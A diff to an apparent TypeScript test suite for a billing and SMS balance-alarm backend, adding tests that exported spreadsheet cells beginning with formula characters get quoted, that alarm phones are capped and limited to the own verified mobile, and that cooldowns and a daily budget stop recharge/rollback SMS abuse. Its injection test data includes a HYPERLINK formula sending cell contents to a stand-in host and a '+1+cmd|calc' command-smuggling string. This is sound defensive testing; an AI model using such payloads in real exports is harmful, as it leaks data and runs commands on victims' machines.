@@ -102,6 +102,35 @@ describe.each(backends)('bills (%s)', (backend) => {
     expect(none.body).toMatchObject({ code: 500, msg: '当前条件没有数据，无法导出' });
   });
 
+  it('exported cells that a spreadsheet would take as a formula get a single quote; amounts stay as they are', async () => {
+    const { server } = t;
+    const evil = ['=HYPERLINK("http://evil.example/?x="&A1,"点击")', '+1+cmd|calc', '-2+3', '@SUM(1,1)', '\t=1+1', '\r=1+1'];
+    for (const [i, requestId] of evil.entries()) {
+      const rc = await agent1.post('/api/client/recharge', { clientId: 'client1', amount: '0.01', requestId: `${requestId}${i}` });
+      expect(rc.body.code).toBe(0);
+    }
+    const r = await agent1.post('/api/finance/bill/self/export', { financial_type: 1 });
+    expect(r.status).toBe(200);
+    const wb = new ExcelJS.Workbook();
+    await wb.xlsx.load(r.raw.rawPayload as any);
+    const ws = wb.worksheets[0];
+    const orderIds: unknown[] = [];
+    const amounts: unknown[] = [];
+    ws.eachRow((row, n) => {
+      if (n === 1) return;
+      orderIds.push(row.getCell(7).value);
+      amounts.push(row.getCell(5).value);
+      // no cell is a formula
+      row.eachCell((c) => expect(c.formula ?? null).toBeNull());
+    });
+    // (the form trims the order number: a leading tab / CR arrives as the formula behind it; safeCell quotes both, tests/server/export-cells.test.ts)
+    for (const [i, requestId] of evil.entries()) expect(orderIds).toContain(`'${requestId.trim()}${i}`);
+    expect(orderIds.some((v) => typeof v === 'string' && /^[=+\-@\t\r]/.test(v))).toBe(false);
+    // negative amounts are numbers, not formulas: unchanged
+    expect(amounts).toContain('-0.01');
+    void server;
+  });
+
   it('credit history: raises and cuts (kinds 9 / 10, the agent-credit CLI), each period ending at the next', async () => {
     const { server } = t;
     server.clock.advance(60_000);
@@ -133,8 +162,13 @@ describe.each(backends)('bills (%s)', (backend) => {
     expect(AMOUNT_MSG).toBe('提醒额度为大于0的整数，且不能为空');
     expect([PHONE_MSG, DUP_MSG]).toEqual(['手机号码格式不正确', '手机号码重复']);
 
-    const max = await edit({ alarmAmount: '1000000', alarmPhone: '13800138000,13900139000', agentId: 'agent1' });
-    expect(max.body).toMatchObject({ code: 0, msg: alarmForm['x-messages'].saved, data: { agentId: 'agent1', alarmAmount: '1000000', alarmPhone: '13800138000,13900139000' } });
+    // at most 5 phones, and only the account's own (verified) mobile: no free SMS to anyone else
+    const six = Array.from({ length: 6 }, (_, i) => `1380013800${i}`).join(',');
+    expect((await edit({ alarmAmount: '100', alarmPhone: six })).body).toMatchObject({ code: 400, msg: '最多填写5个手机号码' });
+    expect((await edit({ alarmAmount: '100', alarmPhone: '13800138001,13900139000' })).body).toMatchObject({ code: 400, msg: alarmForm['x-messages'].phoneNotVerified });
+    expect((await edit({ alarmAmount: '100', alarmPhone: '13900139000' })).body).toMatchObject({ code: 400, msg: alarmForm['x-messages'].phoneNotVerified });
+    const max = await edit({ alarmAmount: '1000000', alarmPhone: '13800138001', agentId: 'agent1' });
+    expect(max.body).toMatchObject({ code: 0, msg: alarmForm['x-messages'].saved, data: { agentId: 'agent1', alarmAmount: '1000000', alarmPhone: '13800138001' } });
     // 0 = no reminder, phones optional
     const off = await edit({ alarmAmount: '0', alarmPhone: '' });
     expect(off.body.data).toMatchObject({ alarmAmount: '0', alarmPhone: '' });
@@ -149,7 +183,7 @@ describe.each(backends)('bills (%s)', (backend) => {
     const agent0 = await as(server, 'agent0');
     const start = Number(await balance(server, 'agent0'));
     const threshold = start - 1000;
-    const set = await agent0.post('/api/finance/agentBalanceAlarm/edit', { alarmAmount: String(threshold), alarmPhone: '13800138000,18600186000' });
+    const set = await agent0.post('/api/finance/agentBalanceAlarm/edit', { alarmAmount: String(threshold), alarmPhone: '13800138000' });
     expect(set.body.code).toBe(0);
     expect(set.body.data.armed).toBe(1);
 
@@ -174,19 +208,24 @@ describe.each(backends)('bills (%s)', (backend) => {
     expect(Number(ev[1].balance)).toBeLessThan(threshold);
     expect(await ledgerViolations(server)).toEqual([]);
 
-    // the job turns each crossing into a system task, once, whichever process runs it
+    // the job turns each crossing into a system task, once, whichever process runs it; the second
+    // crossing is within the 24 h cooldown of the first alarm: recorded, no SMS
     const sent = await Promise.all([server.app.services.bills.deliverAlarms(), server.app.services.bills.deliverAlarms()]);
     expect(sent[0] + sent[1]).toBe(2);
     expect(await server.app.services.bills.deliverAlarms()).toBe(0);
-    const after = await events(server, 'agent0');
-    expect(after.every((e) => e.task_id !== null && e.sent_at !== null)).toBe(true);
+    const handled = await events(server, 'agent0');
+    expect(handled.map((e) => [e.task_id !== null, e.sent_at !== null, e.sms_count, e.skipped])).toEqual([
+      [true, true, 1, ''],
+      [false, true, 0, 'cooldown'],
+    ]);
+    const after = handled.slice(0, 1);
     const msgs = await db(server)
       .selectFrom('sms_messages as m')
       .select(['m.id', 'm.phone', 'm.state', 'm.price', queuedAt.as('next_at')])
       .where('m.task_id', 'in', after.map((e) => e.task_id!))
       .orderBy('m.id')
       .execute();
-    expect(msgs.map((m) => m.phone).sort()).toEqual(['13800138000', '13800138000', '18600186000', '18600186000']);
+    expect(msgs.map((m) => m.phone).sort()).toEqual(['13800138000']);
     expect(msgs.every((m) => m.state === 0 && m.next_at !== null && Number(m.price) === 0)).toBe(true);
     const task = await db(server).selectFrom('sms_tasks').selectAll().where('id', '=', after[0].task_id!).executeTakeFirstOrThrow();
     expect(task.content).toContain('【云讯通】');
@@ -200,7 +239,7 @@ describe.each(backends)('bills (%s)', (backend) => {
     await link.flushReceipts();
     await d.applyOnce();
     const toPhones = link.requests.filter((q) => msgs.some((m) => m.id === q.ref));
-    expect(toPhones).toHaveLength(4);
+    expect(toPhones).toHaveLength(1);
     expect(toPhones[0].text).toContain('请及时充值');
     const done = await db(server).selectFrom('sms_messages').select('state').where('task_id', 'in', after.map((e) => e.task_id!)).execute();
     expect(done.every((m) => m.state === 3)).toBe(true);
@@ -225,5 +264,66 @@ describe.each(backends)('bills (%s)', (backend) => {
     await cli(server, 'agent-credit', 'agent0', '1000');
     await cli(server, 'agent-credit', 'agent0', '-1000');
     expect(await events(server, 'agent0')).toHaveLength(before + 1);
+  });
+  it('the recharge / rollback attack: 10 crossings send one alarm SMS per cooldown, to the own mobile only, within the daily budget', async () => {
+    const { server } = t;
+    const bills = server.app.services.bills;
+    await bills.deliverAlarms();
+    // 24 h later: no cooldown left from the tests above
+    server.clock.advance(25 * 3600_000);
+    const agent0 = await as(server, 'agent0');
+    const attackPhones = Array.from({ length: 20 }, (_, i) => `186${String(i).padStart(8, '0')}`).join(',');
+    expect((await agent0.post('/api/finance/agentBalanceAlarm/edit', { alarmAmount: '100', alarmPhone: attackPhones })).body.code).toBe(400);
+    // a row saved before this rule (20 foreign phones): the job sends to the own mobile only
+    const id = await accountId(server, 'agent0');
+    const frac = Math.ceil(Number(await balance(server, 'agent0'))) - Number(await balance(server, 'agent0'));
+    if (frac > 0.001) expect((await cli(server, 'agent-credit', 'agent0', frac.toFixed(2))).code).toBe(0);
+    // the balance sits at the threshold: a 1.00 recharge of a sub-account falls below, its rollback re-arms
+    const threshold = Number(await balance(server, 'agent0'));
+    expect(Number.isInteger(threshold)).toBe(true);
+    await db(server).updateTable('credit_alarms').set({ alarm_amount: String(threshold), alarm_phones: `${attackPhones},13800138000`, armed: true }).where('account_id', '=', id).execute();
+    const before = (await events(server, 'agent0')).length;
+    const statsBefore = await bills.alarmStats();
+    for (let i = 0; i < 10; i++) {
+      expect((await agent0.post('/api/client/recharge', { clientId: 'client0', amount: '1.00' })).body.code).toBe(0);
+      expect((await agent0.post('/api/client/rollback', { clientId: 'client0', amount: '1.00' })).body.code).toBe(0);
+      await bills.deliverAlarms();
+    }
+    const ev = (await events(server, 'agent0')).slice(before);
+    expect(ev).toHaveLength(10); // every crossing is recorded …
+    expect(ev.filter((e) => e.sms_count > 0)).toHaveLength(1); // … one sends
+    expect(ev.filter((e) => e.skipped === 'cooldown')).toHaveLength(9);
+    const task = ev.find((e) => e.task_id !== null)!.task_id!;
+    const phones = await db(server).selectFrom('sms_messages').select('phone').where('task_id', '=', task).execute();
+    expect(phones.map((p) => p.phone)).toEqual(['13800138000']);
+    const stats = await bills.alarmStats();
+    expect(stats.sms - statsBefore.sms).toBe(1);
+    expect(stats.skipped.cooldown - statsBefore.skipped.cooldown).toBe(9);
+    expect(stats.budget).toBe(1000);
+    // the operator sees the same
+    const shown = await cli(server, 'alarm-stats');
+    expect(shown.code).toBe(0);
+    expect(shown.lines.join('\n')).toMatch(/已发短信[\s\S]*预算/);
+    expect(await ledgerViolations(server)).toEqual([]);
+
+    // past the cooldown, but the system budget is spent: recorded, skipped, logged
+    server.clock.advance(25 * 3600_000);
+    const cfg = server.app.ctx.config;
+    const saved = cfg.alarmSmsDaily;
+    cfg.alarmSmsDaily = 0;
+    const again = await as(server, 'agent0'); // the session did not live through the day
+    try {
+      expect((await again.post('/api/client/recharge', { clientId: 'client0', amount: '1.00' })).body.code).toBe(0);
+      expect((await again.post('/api/client/rollback', { clientId: 'client0', amount: '1.00' })).body.code).toBe(0);
+      await bills.deliverAlarms();
+      expect((await events(server, 'agent0')).at(-1)).toMatchObject({ sms_count: 0, skipped: 'budget', task_id: null });
+    } finally {
+      cfg.alarmSmsDaily = saved;
+    }
+    // within the budget again: the next crossing sends
+    expect((await again.post('/api/client/recharge', { clientId: 'client0', amount: '1.00' })).body.code).toBe(0);
+    expect((await again.post('/api/client/rollback', { clientId: 'client0', amount: '1.00' })).body.code).toBe(0);
+    await bills.deliverAlarms();
+    expect((await events(server, 'agent0')).at(-1)).toMatchObject({ sms_count: 1, skipped: '' });
   });
 });
